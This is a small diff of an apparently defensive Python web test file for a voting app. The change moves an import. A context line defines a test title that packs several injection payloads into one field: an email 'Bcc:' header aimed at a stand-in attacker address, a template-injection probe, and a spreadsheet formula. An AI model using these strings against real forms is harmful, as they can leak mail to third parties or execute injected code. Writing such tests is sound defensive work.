@@ -19,8 +19,8 @@ from app.processes import queries as processes
 from app.processes import service
 from tests.web.callers import signed_in
 from tests.web.conftest import page
+from tests.web.forms import token_of
 from tests.web.letters import link_in, texts_to
-from tests.web.test_attacks_input import token_of
 from tests.web.towns import open_budget, pb, project_ids
 
 TITLE = "Vote{0}Bcc: spy@evil.example{0}{{{{7*7}}}} {{% raw %}} =1+1"
